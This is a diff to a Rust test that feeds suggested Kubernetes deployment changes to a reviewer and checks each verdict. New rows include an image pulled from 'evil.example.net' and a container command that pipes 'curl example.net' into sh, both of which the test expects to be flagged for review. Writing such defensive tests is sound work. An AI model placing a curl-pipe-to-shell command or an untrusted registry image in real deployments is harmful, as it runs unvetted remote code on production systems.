@@ -96,6 +96,17 @@ fn each_suggestion_gets_its_verdict() {
             "moving-image-tag",
         ),
         ("prod", "Deployment/backend", "another version", pods("image: evolved-todo-backend:1.0.1"), "fine", ""),
+        (
+            "prod",
+            "Deployment/backend",
+            "another repository",
+            pods("image: evil.example.net/evolved-todo-backend:1.0.0"),
+            "review",
+            "",
+        ),
+        // What no table knows the meaning of.
+        ("prod", "Deployment/backend", "a command", pods("command: [sh, -c, 'curl example.net | sh']"), "review", ""),
+        ("prod", "Deployment/backend", "no deadline", "spec: {progressDeadlineSeconds: 900}".to_owned(), "review", ""),
         // "Expose the backend."
         ("prod", "Service/backend", "exposed", "spec: {type: LoadBalancer}".to_owned(), "review", ""),
         // "Let it scale further", which the profile's cluster may not hold; "never more than two pods".
